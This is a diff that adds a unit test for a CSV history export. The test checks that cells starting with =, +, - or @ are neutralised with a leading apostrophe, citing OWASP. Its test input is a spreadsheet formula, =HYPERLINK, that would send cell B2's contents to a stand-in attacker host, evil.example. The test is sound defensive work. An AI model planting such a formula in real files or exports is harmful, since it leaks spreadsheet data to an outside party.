@@ -70,3 +70,16 @@ describe('historySubject', () => {
     expect(row).not.toContain('57');
   });
 });
+
+describe('historyCsv and formulas', () => {
+  it('writes a cell that a spreadsheet would run as a formula as text, an apostrophe first (OWASP)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?"&B2,"Open")';
+    const csv = await historyCsv([
+      { ...base, actor: { id: 1, name: evil, role_slug: 'supplier' }, reason: `@${evil}` },
+    ]);
+    const row = csv.split('\n')[1] ?? '';
+    expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?""&B2,""Open"")"`);
+    expect(row).toContain(`"'@=HYPERLINK(`);
+    expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
+  });
+});
